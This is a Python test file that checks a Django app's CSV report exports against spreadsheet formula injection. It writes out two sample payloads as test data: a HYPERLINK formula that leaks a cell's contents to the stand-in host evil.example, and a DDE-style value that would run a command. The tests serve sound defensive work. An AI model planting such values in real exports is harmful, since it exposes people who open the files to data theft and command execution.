"""Spreadsheet formulas: every cell Stafet writes to a CSV passes through stafet.sheets, so a name such as
=HYPERLINK(...) arrives as text, never as a live formula."""

import csv
import io

from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from stafet.sheets import FORMULA_STARTS, safe_cell, safe_record, safe_row

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_a_participants_formula_name_reaches_the_report_csv_as_text(world, login):
    world.p1.first_name = PAYLOAD
    world.p1.save()
    world.m1.first_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.m1.save()
    world.cohort_k.name = "+Cohort K"
    world.cohort_k.save()
    client = login(world.users["coordinator_a"])
    cells = []
    for name, pk, table in [("outcomes:cohort_report", world.cohort_k.pk, "meetings"),
                            ("outcomes:programme_report", world.programme_p.pk, "cohorts")]:  # fmt: skip
        response = client.get(reverse(name, args=[pk]), {"format": "csv", "table": table})
        cells += [
            cell for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";") for cell in row
        ]
    assert f"'{PAYLOAD} Haddad" in cells
    assert f"'{world.m1}" in cells and str(world.m1).startswith("@SUM")
    assert "'+Cohort K" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").isdigit()]


@given(st.text())
def test_no_text_leaves_as_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").replace(",", "").replace(".", "").isdigit()
    assert cell == text or cell == "'" + text  # nothing else is changed


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.decimals(allow_nan=False)))
def test_numbers_stay_numbers(number):
    assert safe_cell(number) is number


def test_negative_numbers_as_text_stay_numbers_and_other_starts_are_escaped():
    assert safe_row(["-3", "+4.5", "-0,75", -2, None, "", "Amira"]) == ["-3", "+4.5", "-0,75", -2, None, "", "Amira"]
    assert safe_row(["-", "-3+4", "\t1", "\r=1", "@x", "=1"]) == ["'-", "'-3+4", "'\t1", "'\r=1", "'@x", "'=1"]
    assert safe_record({"id": "=1", "score": -5}) == {"id": "'=1", "score": -5}
